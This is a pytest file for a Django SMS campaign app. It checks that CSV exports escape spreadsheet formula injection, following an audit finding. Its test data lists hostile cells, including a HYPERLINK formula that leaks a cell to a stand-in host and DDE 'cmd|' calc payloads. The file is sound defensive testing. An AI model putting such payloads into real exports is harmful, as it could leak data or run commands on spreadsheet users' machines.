"""Finding 8: CSV formula injection. A rejected row such as `=HYPERLINK("http://evil","x")`
went out verbatim in the rejected-rows download, and a spreadsheet would run it. Every CSV
export now writes such cells with a leading `'`; plain numbers (E.164 included) are kept."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from django.utils import timezone

from campaigns.models import Campaign
from smshub.csvexport import safe_cell
from stats.models import DailyStat
from tests.audiences.helpers import run
from tests.providers.helpers import create_generic

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def read_csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode().removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_it_escapes_formulas_in_the_rejected_rows_download(marketer_client):
    file = "phone\n" + "\n".join(HOSTILE) + "\n+12025550\n-7\n"
    job = run(file, audience="Leads")

    response = marketer_client.get(f"/audiences/imports/{job.pk}/rejected.csv")

    rows = read_csv(response)
    assert rows[0] == ["line", "reason", "row"]
    assert [row[2] for row in rows[1:]] == [
        # The line "=HYPERLINK(…)" reads as 2 fields: it is rejected whole, and escaped whole.
        "'" + HOSTILE[0],
        "'" + HOSTILE[1],
        "'" + HOSTILE[2],
        "'" + HOSTILE[3],
        "'" + HOSTILE[4],
        "+12025550",  # a number stays a number
        "-7",
    ]
    assert all(row[1].startswith(("not a valid", "more fields")) for row in rows[1:]), rows


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1 (415) 555-0123", "'+1 (415) 555-0123"),
        ("-", "'-"),
        ("@", "'@"),
        ("\r=1", "'\r=1"),
        ("\t", "'\t"),
        ("+14155550123", "+14155550123"),
        ("-12.5", "-12.5"),
        ("+.5", "+.5"),
        ("4155550123", "4155550123"),
        ("Ann = the boss", "Ann = the boss"),
        ("", ""),
        (12, 12),
        (None, None),
    ],
)
def test_it_escapes_only_what_a_spreadsheet_would_run(cell, written):
    assert safe_cell(cell) == written


@pytest.mark.no_rollup_check  # a rollup row made by hand: no messages to recompute from
def test_the_daily_stats_csv_holds_only_dates_and_plain_numbers(marketer_client, db):
    """The other export: nothing in it comes from users, and its numbers go out unescaped."""
    provider = create_generic()
    campaign = Campaign.objects.create(name="=cmd|' /C calc'!A0", provider=provider)
    day = timezone.localdate() - timedelta(days=1)
    DailyStat.objects.create(
        campaign=campaign, provider=provider, day=day, sent=3, delivered=2, clicks=1,
        unique_clicks=1,
    )  # fmt: skip

    response = marketer_client.get(f"/campaigns/{campaign.pk}/stats/?days=7&format=csv")

    rows = read_csv(response)
    assert [day.isoformat(), "3", "2", "0", "1", "1", "50.00"] in rows
    cells = [cell for row in rows[1:] for cell in row]
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d|\d+(\.\d\d)?", cell) for cell in cells), cells
